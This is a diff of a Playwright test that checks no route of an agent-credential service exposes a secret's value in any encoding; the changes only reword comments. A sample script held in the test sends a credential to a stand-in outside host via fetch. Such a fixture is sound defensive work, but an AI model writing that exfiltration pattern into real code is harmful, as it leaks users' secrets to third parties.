@@ -3,7 +3,7 @@ import type { APIResponse } from '@playwright/test'
 import { haveAccount } from '../support/people.ts'
 import { expect, test } from '../support/test.ts'
 
-/** Requests from this machine. */
+/** Marks each request as sent from this machine. */
 test.use({ extraHTTPHeaders: { 'x-forwarded-for': '127.0.0.1' } })
 
 const name = 'SHOWN_NOWHERE_KEY'
@@ -11,7 +11,7 @@ const value = 'pA5s/w+rd="of&the<vault>-4711'
 const replaced = 'n3w-/value+of="the<vault>-4712'
 const host = 'api.example.com'
 
-/** How an answer could hold a value. */
+/** The encodings in which a response could contain the value. */
 const formsOf = (secret: string) => [
   secret,
   JSON.stringify(secret).slice(1, -1),
@@ -27,7 +27,7 @@ const script = `
   const text = await llm.complete('What of ' + key + '?')
   await fetch('https://other.example/?key=' + key)`
 
-test('no answer of any route holds the value of a credential, for its agent, its operator or anybody else', async ({
+test('no response of any route contains a credential’s value, whether for its agent, its operator or others', async ({
   page,
   request,
   appUrl,
@@ -88,7 +88,7 @@ test('no answer of any route holds the value of a credential, for its agent, its
     const headers = { authorization: `Bearer ${token}` }
     await check(`GET ${path}`, await request.get(path, { headers }))
     await check(`GET ${path} as the operator`, await operator.get(path))
-    // Revoking and cancelling come to nothing any more, or end what only this test uses.
+    // By now, revoking and cancelling have no effect, or affect only what this test created.
     await check(`POST ${path}`, await request.post(path, { headers, data: { value: 1 } }))
     await check(`POST ${path} as the operator`, await operator.post(path, { headers: origin, data: { value: 1 } }))
   }
